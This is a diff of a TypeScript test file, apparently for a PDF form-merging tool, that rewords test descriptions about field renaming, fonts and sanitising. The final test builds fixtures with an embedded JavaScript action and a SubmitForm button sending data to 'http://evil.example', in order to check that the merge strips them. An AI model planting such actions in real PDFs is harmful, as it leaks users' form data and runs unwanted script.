@@ -42,7 +42,7 @@ async function fieldNames(pdf: Uint8Array): Promise<string[]> {
 }
 
 describe('forms', () => {
-  it('of the same names keep their own values, and radio groups stay groups', async () => {
+  it('with equal field names keep their values, and radio groups stay groups', async () => {
     const sources = [await libraryForm('Rome', 'red'), await libraryForm('Oslo', 'blue')];
     const { pdf, codes } = await merged(sources);
     expect(codes).toEqual(['1 fields_renamed']);
@@ -64,7 +64,7 @@ describe('forms', () => {
     expect(filled.getTextField('address.city').getText()).toBe('Rome');
   });
 
-  it('never give a field a name that another one has', async () => {
+  it('never give two fields one name', async () => {
     const one = form({ 10: text('a'), 11: text('a_2') });
     const other = form({
       10: text('a'),
@@ -74,7 +74,7 @@ describe('forms', () => {
     expect(await fieldNames((await merged([one, other])).pdf)).toEqual(['a', 'a_2', 'a_3', 'a_4']);
   });
 
-  it('know the fields that they do not list, and the names of those without a name of their own', async () => {
+  it('include fields that the form does not list or name', async () => {
     const kids: Objects = {
       10: text('x', '/Parent 20 0 R'),
       11: text('y'),
@@ -85,7 +85,7 @@ describe('forms', () => {
     expect(await fieldNames((await merged([withParent, withParent])).pdf)).toEqual(['x', 'y', 'x_2', 'y_2']);
   });
 
-  it('share a font that is the same, and rename one that is not', async () => {
+  it('share equal fonts and rename different fonts of one name', async () => {
     const source = (font: string) =>
       form(
         { 10: text('a', '/DA (0 g /Helv 9 Tf)'), 11: text('b') },
@@ -118,7 +118,7 @@ describe('forms', () => {
 });
 
 describe('merging a form', () => {
-  it('removes scripts, submitting and XFA', async () => {
+  it('removes scripts, submit actions and XFA', async () => {
     const script = '/AA <</K <</S /JavaScript /JS (evil\\(\\))>>>>';
     const button = text('send', '/A <</S /SubmitForm /F (http://evil.example)>>');
     const source = form({ 10: text('a', script), 11: button }, '/XFA (xfa-data)');
